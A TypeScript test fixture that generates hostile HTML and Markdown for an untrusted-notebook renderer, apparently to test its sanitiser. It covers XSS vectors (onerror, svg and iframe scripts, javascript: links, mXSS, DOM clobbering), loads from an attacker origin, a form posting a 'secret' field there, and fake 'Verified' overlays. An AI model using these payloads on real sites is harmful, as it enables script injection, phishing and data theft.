/**
 * Hostile HTML that a stranger's notebook may put in its prose or its `md` outputs. Each script
 * payload sets `window.__pwned`; each fetch payload targets the attacker's `origin`. Every entry
 * is its own Markdown block, so marked passes it through as raw HTML. `tag` names the place
 * (prose, md) so a failure says where. No backticks: the corpus also goes in a template literal.
 */
export function hostileCorpus(tag: string, origin: string): string {
  const host = origin.replace(/^https?:/, '');
  return [
    `<p>${tag}-start</p>`,
    `<img src=x onerror="window.__pwned='${tag}-img'">`,
    `<svg><script>window.__pwned='${tag}-svg'</script><a href="javascript:window.__pwned='${tag}-svglink'"><text y="20">svg link</text></a></svg>`,
    `<script>window.__pwned='${tag}-script'</script>`,
    `<iframe srcdoc="<script>parent.__pwned='${tag}-iframe'</script>"></iframe>`,
    `<object data="${origin}/${tag}-object"></object>`,
    `<embed src="${origin}/${tag}-embed">`,
    `<details open ontoggle="window.__pwned='${tag}-details'"><summary>d</summary>x</details>`,
    `<a href="javascript:window.__pwned='${tag}-js'">${tag} js link</a>`,
    `<a href=" JaVaScRiPt:window.__pwned='${tag}-js2'">${tag} js link 2</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">${tag} data link</a>`,
    `<a href="${host}/${tag}-protocol-relative">${tag} protocol-relative link</a>`,
    `<a href="${origin}/${tag}-external" target="_self" rel="opener">${tag} external link</a>`,
    `[${tag} markdown link](${origin}/${tag}-md-link)`,
    `![${tag} pixel](${origin}/${tag}-pixel.png)`,
    `<img src="${origin}/${tag}-img.png" alt="${tag} tracker">`,
    `<img srcset="${origin}/${tag}-srcset.png 1x" src="data:image/png;base64,iVBORw0KGgo=">`,
    `<base href="${origin}/${tag}-base/">`,
    `<meta http-equiv="refresh" content="0;url=${origin}/${tag}-refresh">`,
    `<link rel="stylesheet" href="${origin}/${tag}-style.css">`,
    `<link rel="prefetch" href="${origin}/${tag}-prefetch">`,
    `<style>@import url("${origin}/${tag}-import.css"); header{display:none}</style>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff">${tag} OVERLAY</div>`,
    `<p style="position:fixed;top:0;right:0;z-index:99999" class="badge verified" role="status" aria-label="Reproduced">✔ Reproduced</p>`,
    `<button type="button" onclick="window.__pwned='${tag}-button'">${tag} fake Verify</button>`,
    `<form action="${origin}/${tag}-form" method="post"><input name="secret" value="x"><button type="submit">${tag} submit</button></form>`,
    `<input type="text" value="${tag} input"><textarea>${tag} textarea</textarea><select><option>${tag} option</option></select>`,
    `<img name="getElementById" src="data:image/png;base64,iVBORw0KGgo=">`,
    `<a id="main" name="main" href="#x">${tag} clobber main</a>`,
    `<form id="${tag}-clobber"><input name="attributes"></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='${tag}-mxss'"></style></mglyph></table></mtext></math>`,
    `<video poster="${origin}/${tag}-poster.png"></video><audio src="${origin}/${tag}-audio.mp3" autoplay></audio>`,
    `<p>${tag}-end</p>`,
  ].join('\n\n');
}

/** A notebook with the corpus in its prose and in an `md` output, and markup in its fields. */
export function hostileNotebook(origin: string): string {
  return `---
algobook: 1
id: hostile-content
title: '<img src=x onerror="window.__pwned=''title''">Reproduced ✔'
summary: '<button onclick="window.__pwned=''summary''">Verified</button>'
transparency:
  purpose: '<script>window.__pwned="card"</script><b style="position:fixed;inset:0">card purpose</b>'
  contact: 'javascript:window.__pwned="contact"'
---

${hostileCorpus('prose', origin)}

\`\`\`js
md\`${hostileCorpus('md', origin)}\`
\`\`\`
`;
}
